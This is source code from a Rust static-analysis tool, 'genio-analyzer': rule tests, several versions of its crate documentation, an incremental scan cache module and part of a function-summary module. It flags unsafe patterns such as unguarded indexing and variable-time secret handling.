        assert!(scan("crypto", "x.rs", src2).is_empty());
        // `macsec` does not segment to `mac`.
        let src3 = "fn v(macsec_mode: u8) -> bool { macsec_mode == 3 }";
        assert!(scan("netsec", "x.rs", src3).is_empty());
    }

    #[test]
    fn r4_flags_narrowing_not_widening() {
        let src = "fn f(sci: u64) -> u32 { sci as u32 }";
        let f = scan("netsec", "x.rs", src);
        assert_eq!(f.len(), 1);
        assert!(f[0].detail.contains("as u32"));
        let src2 = "fn f(x: u32) -> u64 { x as u64 }";
        assert!(scan("netsec", "x.rs", src2).is_empty());
        // Literal bounds are not narrowing hazards.
        let src3 = "fn f() -> u64 { u32::MAX as u64 }";
        assert!(scan("netsec", "x.rs", src3).is_empty());
    }

    #[test]
    fn r5_flags_unguarded_dynamic_index_only() {
        let unguarded = "fn f(buf: &[u8], i: usize) -> u8 { buf[i] }";
        let f = scan("pon", "frame.rs", unguarded);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, Rule::R5UnguardedIndex);

        let guarded = "fn f(buf: &[u8], i: usize) -> u8 { if i < buf.len() { buf[i] } else { 0 } }";
        assert!(scan("pon", "frame.rs", guarded).is_empty());

        let constant = "fn f(buf: &[u8]) -> u8 { buf[0] }";
        assert!(scan("pon", "frame.rs", constant).is_empty());

        // Out-of-scope file: no R5.
        assert!(scan("pon", "topology.rs", unguarded).is_empty());
    }

    #[test]
    fn r5_literal_bounded_loop_vars_are_static() {
        // `for r in 1..4` pins `r` at compile time — AES-style state
        // shuffles through it are not dynamic indexing.
        let src = "fn f(b: &mut [u8]) { for r in 1..4 { b[r] = b[r + 4]; } }";
        assert!(scan("crypto", "aes.rs", src).is_empty());
        // A variable-bounded loop stays flagged.
        let src2 = "fn f(w: &mut [u32], nk: usize, m: usize) { for i in nk..m { w[i] = 0; } }";
        assert_eq!(scan("crypto", "aes.rs", src2).len(), 1);
        // Outside its loop body the name is dynamic again.
        let src3 = "fn f(b: &[u8], r: usize) -> u8 { for r in 0..2 { let _ = r; } b[r] }";
        assert_eq!(scan("crypto", "aes.rs", src3).len(), 1);
    }

    #[test]
    fn r6_counts_debt_markers_in_comments_only() {
        let src = "// TODO: tighten\nfn f() { let todo_list = 1; }";
        let f = scan("demo", "x.rs", src);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, Rule::R6DebtMarker);
    }

    #[test]
    fn r7_flags_raw_timing_outside_the_clock() {
        let src = "fn f() -> std::time::Instant { Instant::now() }";
        let f = scan("pon", "sim.rs", src);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, Rule::R7RawTiming);
        assert!(f[0].detail.contains("Instant::now()"));
        // SystemTime is flagged the same way.
        let src2 = "fn f() { let _ = SystemTime::now(); }";
        assert_eq!(scan("core", "x.rs", src2).len(), 1);
    }

    #[test]
    fn r7_allows_the_clock_abstraction_and_bench_harness() {
        let src = "fn f() -> std::time::Instant { Instant::now() }";
        assert!(scan("telemetry", "clock.rs", src).is_empty());
        assert!(scan("testkit", "bench.rs", src).is_empty());
        // Same names, elsewhere in those crates: still flagged.
        assert_eq!(scan("telemetry", "span.rs", src).len(), 1);
    }

    #[test]
    fn r7_ignores_test_code_and_non_call_mentions() {
        let src = "#[cfg(test)]\nmod tests { #[test]\nfn t() { let _ = Instant::now(); } }";
        assert!(scan("pon", "sim.rs", src).is_empty());
        // `Instant` without `::now` (e.g. a type position) is fine.
        let src2 = "fn f(epoch: Instant) -> Instant { epoch }";
        assert!(scan("pon", "sim.rs", src2).is_empty());
    }

    #[test]
    fn forbid_attr_detection() {
        assert!(has_forbid_unsafe(&tokenize("#![forbid(unsafe_code)]\npub fn x() {}")));
        assert!(!has_forbid_unsafe(&tokenize("#![deny(missing_docs)]")));
    }

    #[test]
    fn fn_attribution_handles_nesting() {
        let src = "fn outer() { fn inner(x: Option<u8>) { x.unwrap(); } }";
        let f = scan("demo", "x.rs", src);
        assert_eq!(f[0].function, "inner");
    }
}
