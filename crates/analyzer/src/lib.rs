//! # genio-analyzer
//!
//! Self-hosted static security analysis for the GENIO workspace — the
//! correctness-tooling layer Lesson 7 of the paper says OSS SAST lacks
//! on custom stacks (noisy findings, no reachability linking), applied
//! to the platform itself as Cesarano et al.'s fog-hardening work
//! argues it must be.
//!
//! Pipeline, every stage std-only:
//!
//! 1. [`lexer`] — a lightweight Rust token scanner (comments, strings,
//!    lifetimes and raw literals handled; no full parser);
//! 2. [`rules`] — six security/correctness rules (R1 abort paths, R2
//!    non-constant-time secret comparisons, R3 missing
//!    `#![forbid(unsafe_code)]`, R4 narrowing parser casts, R5
//!    unguarded hot-path indexing, R6 debt markers);
//! 3. [`bridge`] — lowers R4/R5 candidates into the
//!    `genio_appsec::sast` taint IR so an independent engine confirms
//!    reachability before a finding is kept;
//! 4. [`baseline`] — `genio-analyzer/v1` JSON reports and the ratchet:
//!    committed findings are grandfathered, new ones fail
//!    `scripts/verify.sh`, and the baseline only ever shrinks;
//! 5. [`workspace`] — walks every crate's `src/` tree and assembles the
//!    report the CLI, the verify gate, and bench `lesson7_selfscan`
//!    (experiment E-A1) consume.
//!
//! ```
//! use genio_analyzer::{rules, lexer};
//!
//! let tokens = lexer::tokenize("fn f(x: Option<u8>) -> u8 { x.unwrap() }");
//! let ann = rules::annotate(tokens);
//! let ctx = rules::FileContext { crate_name: "demo", rel_path: "demo.rs", file_name: "demo.rs" };
//! let (findings, _) = rules::scan_tokens(&ctx, &ann);
//! assert_eq!(findings[0].rule.id(), "R1");
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod baseline;
pub mod bridge;
pub mod lexer;
pub mod rules;
pub mod workspace;
