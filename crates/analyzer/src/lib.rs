//! # genio-analyzer
//!
//! Self-hosted static security analysis for the GENIO workspace — the
//! correctness-tooling layer Lesson 7 of the paper says OSS SAST lacks
//! on custom stacks (noisy findings, no reachability linking), applied
//! to the platform itself as Cesarano et al.'s fog-hardening work
//! argues it must be.
//!
//! Pipeline, every stage std-only:
//!
//! 1. [`lexer`] — a lightweight Rust token scanner (comments, strings,
//!    lifetimes and raw literals handled; no full parser);
//! 2. [`rules`] — eighteen security/correctness rules (R1 abort paths,
//!    R2 non-constant-time secret comparisons, R3 missing
//!    `#![forbid(unsafe_code)]`, R4 narrowing parser casts, R5
//!    unguarded hot-path indexing, R6 debt markers, R7 raw timing, the
//!    interprocedural R8 secret-leak / R9 discarded-`Result`, the
//!    side-channel R10 secret branches / R11 secret indexing / R12
//!    variable-time ops, the concurrency R13 lock-order cycles /
//!    R14 relaxed sync flags, R15 dropped span guards, the
//!    path-sensitive R16 panic-freedom certification / R17 secret
//!    lifecycle, and the R18 diff/SARIF family), plus the line-scoped
//!    `// genio-analyzer: allow(R11, reason = "...")` suppression;
//! 3. [`cfg`] — intraprocedural control-flow scoping: every guard site
//!    gets a dominance scope (branch/loop/early-return aware), so guard
//!    discharge is per-path instead of flat;
//! 4. [`summary`] — a recursive-descent pass over the token stream that
//!    builds per-file function/item summaries (params, calls, sinks,
//!    discards, constants, allocation sizes, panic sites);
//! 5. [`callgraph`] — links summaries into a workspace-wide call graph;
//! 6. [`dataflow`] — the interprocedural walk: evaluates R8/R9 over the
//!    call graph and discharges R4/R5 findings whose bounds are provable
//!    across function boundaries (mask vs. known length, loop bound vs.
//!    allocation size, guards at every call site);
//! 7. [`sidechannel`] — the constant-time pass: taints secret-typed
//!    values through the R8 registry and flags R10/R11/R12 timing
//!    leaks, one interprocedural hop included;
//! 8. [`concurrency`] — the discipline pass: builds the workspace
//!    lock-acquisition graph for R13 cycles and classifies atomics as
//!    counters vs. sync flags for R14;
//! 9. [`panicfree`] — the R16 pass: call-graph closure from the declared
//!    hot-path entry points, flagging reachable panic sites whose guards
//!    do not dominate them;
//! 10. [`lifecycle`] — the R17 pass: secret collection-escape and
//!     missing-zeroize-in-teardown checks over the R8 type registry;
//! 11. [`bridge`] — lowers R4/R5 candidates into the
//!     `genio_appsec::sast` taint IR so an independent engine confirms
//!     reachability before a finding is kept;
//! 12. [`cache`] — content-hash incremental cache
//!     (`genio-analyzer-cache/v3` JSON under `target/`, carrying the
//!     rule-set version hash so caches from older binaries
//!     self-invalidate, with call-graph dependency invalidation) so warm
//!     re-scans skip lexing/summarising unchanged files;
//! 13. [`baseline`] — `genio-analyzer/v1` JSON reports and the ratchet:
//!     committed findings are grandfathered, new ones fail
//!     `scripts/verify.sh`, and the baseline only ever shrinks;
//! 14. [`diff`] — diff-aware incremental scanning: `--diff <git-ref>`
//!     re-scans the base contents of changed files, diffs the finding
//!     multisets to report only what the change introduced, and exports
//!     `genio-analyzer-sarif/v1` for CI interop;
//! 15. [`workspace`] — walks every crate's `src/` tree (sharded across
//!     `std::thread` workers, instrumented with `genio-telemetry`
//!     spans), applies `allow(...)` suppressions, and assembles the
//!     report the CLI, the verify gate, and benches `lesson7_selfscan`
//!     (E-A1) / `analyzer_scan` (E-A2) / `analyzer_passes` (E-A3) /
//!     `analyzer_pathsense` (E-A4) consume.
//!
//! ```
//! use genio_analyzer::{rules, lexer};
//!
//! let tokens = lexer::tokenize("fn f(x: Option<u8>) -> u8 { x.unwrap() }");
//! let ann = rules::annotate(tokens);
//! let ctx = rules::FileContext { crate_name: "demo", rel_path: "demo.rs", file_name: "demo.rs" };
//! let (findings, _) = rules::scan_tokens(&ctx, &ann);
//! assert_eq!(findings[0].rule.id(), "R1");
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod baseline;
pub mod bridge;
pub mod cache;
pub mod callgraph;
pub mod cfg;
pub mod concurrency;
pub mod dataflow;
pub mod diff;
pub mod lexer;
pub mod lifecycle;
pub mod panicfree;
pub mod rules;
pub mod sidechannel;
pub mod summary;
pub mod workspace;
