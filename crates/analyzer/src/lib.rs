//! # genio-analyzer
//!
//! Self-hosted static security analysis for the GENIO workspace — the
//! correctness-tooling layer Lesson 7 of the paper says OSS SAST lacks
//! on custom stacks (noisy findings, no reachability linking), applied
//! to the platform itself as Cesarano et al.'s fog-hardening work
//! argues it must be.
//!
//! Pipeline, every stage std-only:
//!
//! 1. [`lexer`] — a lightweight Rust token scanner (comments, strings,
//!    lifetimes and raw literals handled; no full parser);
//! 2. [`rules`] — nine security/correctness rules (R1 abort paths, R2
//!    non-constant-time secret comparisons, R3 missing
//!    `#![forbid(unsafe_code)]`, R4 narrowing parser casts, R5
//!    unguarded hot-path indexing, R6 debt markers, R7 raw timing, and
//!    the interprocedural R8 secret-leak / R9 discarded-`Result`);
//! 3. [`summary`] — a recursive-descent pass over the token stream that
//!    builds per-file function/item summaries (params, calls, sinks,
//!    discards, constants, allocation sizes);
//! 4. [`callgraph`] — links summaries into a workspace-wide call graph;
//! 5. [`dataflow`] — the interprocedural walk: evaluates R8/R9 over the
//!    call graph and discharges R4/R5 findings whose bounds are provable
//!    across function boundaries (mask vs. known length, loop bound vs.
//!    allocation size, guards at every call site);
//! 6. [`bridge`] — lowers R4/R5 candidates into the
//!    `genio_appsec::sast` taint IR so an independent engine confirms
//!    reachability before a finding is kept;
//! 7. [`cache`] — content-hash incremental cache
//!    (`genio-analyzer-cache/v1` JSON under `target/`) so warm re-scans
//!    skip lexing/summarising unchanged files;
//! 8. [`baseline`] — `genio-analyzer/v1` JSON reports and the ratchet:
//!    committed findings are grandfathered, new ones fail
//!    `scripts/verify.sh`, and the baseline only ever shrinks;
//! 9. [`workspace`] — walks every crate's `src/` tree (sharded across
//!    `std::thread` workers, instrumented with `genio-telemetry` spans)
//!    and assembles the report the CLI, the verify gate, and benches
//!    `lesson7_selfscan` (E-A1) / `analyzer_scan` (E-A2) consume.
//!
//! ```
//! use genio_analyzer::{rules, lexer};
//!
//! let tokens = lexer::tokenize("fn f(x: Option<u8>) -> u8 { x.unwrap() }");
//! let ann = rules::annotate(tokens);
//! let ctx = rules::FileContext { crate_name: "demo", rel_path: "demo.rs", file_name: "demo.rs" };
//! let (findings, _) = rules::scan_tokens(&ctx, &ann);
//! assert_eq!(findings[0].rule.id(), "R1");
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod baseline;
pub mod bridge;
pub mod cache;
pub mod callgraph;
pub mod dataflow;
pub mod lexer;
pub mod rules;
pub mod summary;
pub mod workspace;
