//! Content-hash incremental scan cache (`genio-analyzer-cache/v3`).
//!
//! The per-file pipeline stages — tokenize, annotate, rule scan,
//! summarize — are pure functions of the file's bytes **and of the rule
//! set**, so their outputs can be memoised under a content hash *plus*
//! a rule-set version. The cache stores, per file: the FNV-1a 64 hash
//! of the source, the line count, the crate-root /
//! `#![forbid(unsafe_code)]` facts R3 needs, the parsed `allow(...)`
//! suppressions, and the *pre-bridge, pre-dataflow* findings, accesses
//! and summary.
//!
//! The v3 document (v2 plus panic-site facts and call receivers in the
//! summaries, consumed by dependency-aware invalidation and the R16/R17
//! passes) carries [`crate::rules::rules_version`] — an FNV
//! hash over every rule's id, title and catalog entry. A cache written
//! by an analyzer binary with a different rule set (the latent v1 bug:
//! such caches were reused verbatim, so a new rule saw stale per-file
//! findings) fails the version check and degrades to a full rescan,
//! while a matching version still serves every unchanged file.
//!
//! Cross-file stages (the sast bridge, R3, and the whole
//! [`crate::dataflow`] pass) always re-run over the cached payloads:
//! they depend on *other* files' contents, which a per-file hash cannot
//! witness. Because everything downstream of the cache is deterministic,
//! a warm scan produces a byte-identical report to a cold one — the
//! property test in `tests/cache_and_parallel.rs` and the verify-gate
//! determinism check both pin this down.
//!
//! Failure policy: a missing, unparsable or schema-mismatched cache file
//! degrades to an empty cache (full rescan), never an error — a stale
//! cache must not be able to break a build.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use genio_testkit::json::{parse, Value};

use crate::rules::{rules_version, Access, Allow, Finding, Rule};
use crate::summary::FileSummary;

/// Cache document schema tag.
pub const CACHE_SCHEMA: &str = "genio-analyzer-cache/v3";

/// Everything the per-file pipeline produced for one source file.
#[derive(Debug, Clone, PartialEq)]
pub struct FileEntry {
    /// FNV-1a 64 hash of the file bytes, lowercase hex.
    pub hash: String,
    /// Number of lines scanned.
    pub lines: u64,
    /// Is this file a crate root (`lib.rs`)?
    pub is_crate_root: bool,
    /// Does the crate root carry `#![forbid(unsafe_code)]`?
    pub has_forbid: bool,
    /// Per-file findings, before the bridge and the dataflow pass.
    pub findings: Vec<Finding>,
    /// R4/R5 access records.
    pub accesses: Vec<Access>,
    /// Parsed `allow(...)` suppression comments.
    pub allows: Vec<Allow>,
    /// Item/function summary for the call graph.
    pub summary: FileSummary,
}

/// The cache: repo-relative path → entry.
#[derive(Debug, Clone, Default)]
pub struct Cache {
    /// Cached per-file results keyed by repo-relative path.
    pub entries: BTreeMap<String, FileEntry>,
}

/// FNV-1a 64 over the file bytes, rendered as lowercase hex.
pub fn content_hash(bytes: &[u8]) -> String {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    format!("{h:016x}")
}

impl Cache {
    /// Loads a cache file, degrading to an empty cache on any problem —
    /// including a cache written by a binary with a different rule set.
    pub fn load(path: &Path) -> Cache {
        let Ok(text) = fs::read_to_string(path) else {
            return Cache::default();
        };
        Cache::from_json_text(&text, rules_version()).unwrap_or_default()
    }

    /// Serializes and writes the cache, creating parent directories.
    /// I/O errors are reported, not panicked on.
    pub fn save(&self, path: &Path) -> std::io::Result<()> {
        if let Some(parent) = path.parent() {
            fs::create_dir_all(parent)?;
        }
        fs::write(path, self.to_json().to_string())
    }

    /// The entry for `rel_path`, but only if its hash still matches.
    pub fn lookup(&self, rel_path: &str, hash: &str) -> Option<&FileEntry> {
        self.entries
            .get(rel_path)
            .filter(|e| e.hash == hash)
    }

    fn to_json(&self) -> Value {
        let files = self
            .entries
            .iter()
            .map(|(path, e)| {
                Value::Obj(vec![
                    ("path".to_string(), Value::Str(path.clone())),
                    ("hash".to_string(), Value::Str(e.hash.clone())),
                    ("lines".to_string(), Value::Num(e.lines as f64)),
                    ("crate_root".to_string(), Value::Bool(e.is_crate_root)),
                    ("forbid".to_string(), Value::Bool(e.has_forbid)),
                    (
                        "findings".to_string(),
                        Value::Arr(e.findings.iter().map(finding_to_json).collect()),
                    ),
                    (
                        "accesses".to_string(),
                        Value::Arr(e.accesses.iter().map(access_to_json).collect()),
                    ),
                    (
                        "allows".to_string(),
                        Value::Arr(e.allows.iter().map(allow_to_json).collect()),
                    ),
                    ("summary".to_string(), e.summary.to_json()),
                ])
            })
            .collect();
        Value::Obj(vec![
            ("schema".to_string(), Value::Str(CACHE_SCHEMA.to_string())),
            (
                "rules_version".to_string(),
                Value::Str(format!("{:016x}", rules_version())),
            ),
            ("files".to_string(), Value::Arr(files)),
        ])
    }

    fn from_json_text(text: &str, expected_version: u64) -> Result<Cache, String> {
        let v = parse(text)?;
        if v.get("schema").and_then(Value::as_str) != Some(CACHE_SCHEMA) {
            return Err(format!("not a {CACHE_SCHEMA} document"));
        }
        let want = format!("{expected_version:016x}");
        if v.get("rules_version").and_then(Value::as_str) != Some(&want) {
            return Err("cache written under a different rule-set version".to_string());
        }
        let mut entries = BTreeMap::new();
        for item in v.get("files").and_then(Value::as_arr).ok_or("missing files")? {
            let s = |key: &str| -> Result<String, String> {
                item.get(key)
                    .and_then(Value::as_str)
                    .map(str::to_string)
                    .ok_or_else(|| format!("entry missing {key:?}"))
            };
            let flag = |key: &str| matches!(item.get(key), Some(Value::Bool(true)));
            let mut findings = Vec::new();
            for f in item.get("findings").and_then(Value::as_arr).unwrap_or(&[]) {
                findings.push(finding_from_json(f)?);
            }
            let mut accesses = Vec::new();
            for a in item.get("accesses").and_then(Value::as_arr).unwrap_or(&[]) {
                accesses.push(access_from_json(a)?);
            }
            let mut allows = Vec::new();
            for a in item.get("allows").and_then(Value::as_arr).unwrap_or(&[]) {
                allows.push(allow_from_json(a)?);
            }
            entries.insert(
                s("path")?,
                FileEntry {
                    hash: s("hash")?,
                    lines: item.get("lines").and_then(Value::as_f64).unwrap_or(0.0)
                        as u64,
                    is_crate_root: flag("crate_root"),
                    has_forbid: flag("forbid"),
                    findings,
                    accesses,
                    allows,
                    summary: FileSummary::from_json(
                        item.get("summary").ok_or("entry missing summary")?,
                    )?,
                },
            );
        }
        Ok(Cache { entries })
    }
}

fn finding_to_json(f: &Finding) -> Value {
    let mut fields = vec![
        ("rule".to_string(), Value::Str(f.rule.id().to_string())),
        ("file".to_string(), Value::Str(f.file.clone())),
        ("line".to_string(), Value::Num(f.line as f64)),
        ("function".to_string(), Value::Str(f.function.clone())),
        ("detail".to_string(), Value::Str(f.detail.clone())),
    ];
    if let Some(c) = f.confirmed {
        fields.push(("confirmed".to_string(), Value::Bool(c)));
    }
    Value::Obj(fields)
}

fn finding_from_json(v: &Value) -> Result<Finding, String> {
    let s = |key: &str| -> Result<String, String> {
        v.get(key)
            .and_then(Value::as_str)
            .map(str::to_string)
            .ok_or_else(|| format!("finding missing {key:?}"))
    };
    let rule_id = s("rule")?;
    Ok(Finding {
        rule: Rule::from_id(&rule_id).ok_or_else(|| format!("unknown rule {rule_id:?}"))?,
        file: s("file")?,
        line: v.get("line").and_then(Value::as_f64).unwrap_or(0.0) as u32,
        function: s("function")?,
        detail: s("detail")?,
        confirmed: match v.get("confirmed") {
            Some(Value::Bool(b)) => Some(*b),
            _ => None,
        },
    })
}

fn allow_to_json(a: &Allow) -> Value {
    Value::Obj(vec![
        ("line".to_string(), Value::Num(a.line as f64)),
        (
            "rules".to_string(),
            Value::Arr(
                a.rules
                    .iter()
                    .map(|r| Value::Str(r.id().to_string()))
                    .collect(),
            ),
        ),
        ("reason".to_string(), Value::Str(a.reason.clone())),
    ])
}

fn allow_from_json(v: &Value) -> Result<Allow, String> {
    let mut rules = Vec::new();
    for r in v.get("rules").and_then(Value::as_arr).unwrap_or(&[]) {
        let id = r.as_str().ok_or("malformed allow rule id")?;
        rules.push(Rule::from_id(id).ok_or_else(|| format!("unknown rule {id:?}"))?);
    }
    Ok(Allow {
        line: v.get("line").and_then(Value::as_f64).unwrap_or(0.0) as u32,
        rules,
        reason: v
            .get("reason")
            .and_then(Value::as_str)
            .map(str::to_string)
            .ok_or("allow missing reason")?,
    })
}

fn access_to_json(a: &Access) -> Value {
    let mut fields = vec![
        ("function".to_string(), Value::Str(a.function.clone())),
        ("var".to_string(), Value::Str(a.var.clone())),
        ("guarded".to_string(), Value::Bool(a.guarded)),
        ("rule".to_string(), Value::Str(a.rule.id().to_string())),
        ("line".to_string(), Value::Num(a.line as f64)),
    ];
    if let Some(m) = a.masked {
        fields.push(("masked".to_string(), Value::Num(m as f64)));
    }
    if let Some(id) = &a.index_ident {
        fields.push(("index_ident".to_string(), Value::Str(id.clone())));
    }
    if let Some((lo, hi)) = &a.loop_bounds {
        fields.push((
            "loop_bounds".to_string(),
            Value::Arr(vec![Value::Str(lo.clone()), Value::Str(hi.clone())]),
        ));
    }
    Value::Obj(fields)
}

fn access_from_json(v: &Value) -> Result<Access, String> {
    let s = |key: &str| -> Result<String, String> {
        v.get(key)
            .and_then(Value::as_str)
            .map(str::to_string)
            .ok_or_else(|| format!("access missing {key:?}"))
    };
    let rule_id = s("rule")?;
    let loop_bounds = match v.get("loop_bounds").and_then(Value::as_arr) {
        Some([lo, hi]) => match (lo.as_str(), hi.as_str()) {
            (Some(lo), Some(hi)) => Some((lo.to_string(), hi.to_string())),
            _ => return Err("malformed loop_bounds".to_string()),
        },
        Some(_) => return Err("malformed loop_bounds".to_string()),
        None => None,
    };
    Ok(Access {
        function: s("function")?,
        var: s("var")?,
        guarded: matches!(v.get("guarded"), Some(Value::Bool(true))),
        rule: Rule::from_id(&rule_id).ok_or_else(|| format!("unknown rule {rule_id:?}"))?,
        line: v.get("line").and_then(Value::as_f64).unwrap_or(0.0) as u32,
        masked: v.get("masked").and_then(Value::as_f64).map(|m| m as u64),
        index_ident: v.get("index_ident").and_then(Value::as_str).map(str::to_string),
        loop_bounds,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::tokenize;
    use crate::rules::annotate;
    use crate::summary::summarize;

    fn entry() -> FileEntry {
        let src = "pub const N: usize = 4;\nfn get(buf: &[u8], i: usize) -> u8 { buf[i] }";
        let ann = annotate(tokenize(src));
        FileEntry {
            hash: content_hash(src.as_bytes()),
            lines: 2,
            is_crate_root: false,
            has_forbid: false,
            findings: vec![Finding {
                rule: Rule::R5UnguardedIndex,
                file: "crates/pon/src/frame.rs".to_string(),
                line: 2,
                function: "get".to_string(),
                detail: "slice `buf` indexed by `i`".to_string(),
                confirmed: Some(true),
            }],
            accesses: vec![Access {
                function: "get".to_string(),
                var: "buf".to_string(),
                guarded: false,
                rule: Rule::R5UnguardedIndex,
                line: 2,
                masked: Some(255),
                index_ident: Some("i".to_string()),
                loop_bounds: Some(("0".to_string(), "N".to_string())),
            }],
            allows: vec![Allow {
                line: 2,
                rules: vec![Rule::R11SecretIndex, Rule::R5UnguardedIndex],
                reason: "table-driven AES, keyed by public data".to_string(),
            }],
            summary: summarize(&ann),
        }
    }

    #[test]
    fn roundtrip_is_lossless() {
        let mut cache = Cache::default();
        cache
            .entries
            .insert("crates/pon/src/frame.rs".to_string(), entry());
        let text = cache.to_json().to_string();
        let back = Cache::from_json_text(&text, rules_version()).unwrap();
        assert_eq!(back.entries, cache.entries);
    }

    #[test]
    fn rules_version_mismatch_invalidates_everything() {
        let mut cache = Cache::default();
        cache.entries.insert("a.rs".to_string(), entry());
        let text = cache.to_json().to_string();
        // Same document, read by a binary whose rule set hashed
        // differently: every entry must be dropped...
        let stale = Cache::from_json_text(&text, rules_version() ^ 1);
        assert!(stale.is_err(), "stale-rules cache must not parse");
        // ...while the matching version still serves the entry.
        let fresh = Cache::from_json_text(&text, rules_version()).unwrap();
        let hash = fresh.entries["a.rs"].hash.clone();
        assert!(fresh.lookup("a.rs", &hash).is_some());
    }

    #[test]
    fn v1_era_document_without_version_degrades_to_empty() {
        // The latent v1 bug: a cache from an older binary (no
        // rules_version field) was reused verbatim. It must now fail
        // the version check and trigger a full rescan.
        let old = "{\"schema\": \"genio-analyzer-cache/v3\", \"files\": []}";
        assert!(Cache::from_json_text(old, rules_version()).is_err());
        // Earlier schema generations never parse, version field or not.
        for stale in ["v1", "v2"] {
            let doc = format!("{{\"schema\": \"genio-analyzer-cache/{stale}\", \"files\": []}}");
            assert!(Cache::from_json_text(&doc, rules_version()).is_err());
        }
    }

    #[test]
    fn lookup_requires_matching_hash() {
        let mut cache = Cache::default();
        cache.entries.insert("a.rs".to_string(), entry());
        let good = cache.entries["a.rs"].hash.clone();
        assert!(cache.lookup("a.rs", &good).is_some());
        assert!(cache.lookup("a.rs", "deadbeefdeadbeef").is_none());
        assert!(cache.lookup("missing.rs", &good).is_none());
    }

    #[test]
    fn garbage_and_wrong_schema_degrade_to_empty() {
        assert!(Cache::from_json_text("not json", rules_version()).is_err());
        let wrong = "{\"schema\": \"other/v9\", \"files\": []}";
        assert!(Cache::from_json_text(wrong, rules_version()).is_err());
        // load() maps both failure modes to the empty cache.
        let dir = std::env::temp_dir().join("genio-analyzer-cache-test");
        let _ = fs::create_dir_all(&dir);
        let p = dir.join("bad.json");
        fs::write(&p, "not json").unwrap();
        assert!(Cache::load(&p).entries.is_empty());
        assert!(Cache::load(&dir.join("absent.json")).entries.is_empty());
    }

    #[test]
    fn hash_is_stable_and_content_sensitive() {
        assert_eq!(content_hash(b""), format!("{:016x}", 0xcbf29ce484222325u64));
        assert_eq!(content_hash(b"abc"), content_hash(b"abc"));
        assert_ne!(content_hash(b"abc"), content_hash(b"abd"));
    }
}
