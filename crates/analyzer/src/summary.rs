//! Per-file function/item summaries for the interprocedural pass.
//!
//! A lightweight recursive-descent walk over the annotated token stream
//! (no full parser, no type inference) extracts exactly the facts
//! [`crate::dataflow`] needs:
//!
//! * function headers — name, parameter names + type text, return type
//!   text;
//! * call sites inside each body, with per-argument shape (bare
//!   identifier / integer literal / other) and whether a bounds guard
//!   dominates an identifier argument in the caller;
//! * format/Debug/telemetry *sink* uses of bare identifiers (R8);
//! * discarded statement results — `let _ = …;` and bare `call(…);`
//!   statements (R9);
//! * item-level facts — `const NAME: … = <int>;` values, `type` alias
//!   right-hand sides, declared struct names, and per-function local
//!   allocation sizes (`vec![x; N]`, `[x; N]`) and `let v = call();`
//!   bindings.
//!
//! Type "text" is token text joined without spaces (`&'static[u8;256]`),
//! compared verbatim by the dataflow pass — good enough for a workspace
//! with a single naming convention, and honest about being lexical.
//!
//! Summaries round-trip through JSON so [`crate::cache`] can persist
//! them per file and the warm path can skip this pass entirely.

use genio_testkit::json::Value;

use crate::lexer::TokenKind;
use crate::rules::Annotated;

/// Everything the interprocedural pass knows about one file.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct FileSummary {
    /// Integer constants: `const NAME: usize = 16;` → `("NAME", 16)`.
    pub consts: Vec<(String, u64)>,
    /// Type aliases: `type Block = [u8; BLOCK_LEN];` → rhs token text.
    pub types: Vec<(String, String)>,
    /// Struct/enum names declared at item level.
    pub structs: Vec<String>,
    /// One summary per `fn` with a body (test code excluded).
    pub functions: Vec<FnSummary>,
}

/// Summary of one function definition.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct FnSummary {
    /// Function name (last `fn` ident; nested fns summarised separately).
    pub name: String,
    /// 1-based line of the `fn` keyword.
    pub line: u32,
    /// Parameters as `(name, type text)`; `self` receivers are skipped.
    pub params: Vec<(String, String)>,
    /// Return type token text (empty when the function returns `()`).
    pub ret: String,
    /// Call sites in the body, source order.
    pub calls: Vec<CallSite>,
    /// Bare identifiers reaching a format/Debug/telemetry sink.
    pub sinks: Vec<SinkUse>,
    /// Discarded statement results (R9 candidates).
    pub discards: Vec<Discard>,
    /// `let v = f(…);` bindings: `(v, f)` — used to type locals by the
    /// callee's return type.
    pub local_calls: Vec<(String, String)>,
    /// `let v: T = …;` bindings: `(v, type text)`.
    pub local_types: Vec<(String, String)>,
    /// `let v = vec![x; N]` / `let v = [x; N]`: `(v, size token text)`.
    pub allocs: Vec<(String, String)>,
    /// `let v = <expr>;` bindings with the bare identifiers the
    /// initialiser reads — the intra-function taint propagation step for
    /// [`crate::sidechannel`] (`let b = key[i];` taints `b`).
    pub local_inits: Vec<(String, Vec<String>)>,
    /// Branch conditions (`if`/`while`/`match` scrutinees) and the bare
    /// identifiers they read (R10).
    pub conds: Vec<CondUse>,
    /// Slice/array indexing sites and the identifiers driving the index
    /// expression (R11).
    pub indexes: Vec<IndexUse>,
    /// Variable-time operator sites — `/`, `%`, `==`, `!=` — with their
    /// operand identifiers (R12).
    pub vt_ops: Vec<OpUse>,
    /// `let g = x.lock()/.read()/.write();` guard acquisitions (R13).
    pub locks: Vec<LockAcq>,
    /// Lock B acquired while guard on lock A is still live (R13 edges).
    pub lock_pairs: Vec<LockPair>,
    /// Calls made while holding a lock — how acquisition order
    /// propagates across the call graph (R13).
    pub held_calls: Vec<HeldCall>,
    /// Atomic operations carrying an explicit `Ordering` (R14).
    pub atomics: Vec<AtomicUse>,
    /// Potential panic/abort sites — `.unwrap()`, `.expect(..)`,
    /// `panic!`-family macros, and dynamically-indexed accesses — with
    /// dominance-aware guard bits (R16). Recorded for *every* file, not
    /// just the R5 hot-path list: reachability decides relevance.
    pub panics: Vec<PanicSite>,
}

/// One branch condition and the identifiers it reads (R10). Projections
/// (`x.len()`), call/macro names and call arguments are already filtered
/// out by the extractor — only bare value reads remain.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct CondUse {
    /// 1-based line of the `if`/`while`/`match` keyword.
    pub line: u32,
    /// Deduplicated bare identifiers read by the condition.
    pub idents: Vec<String>,
}

/// One indexing site `base[…]` (R11).
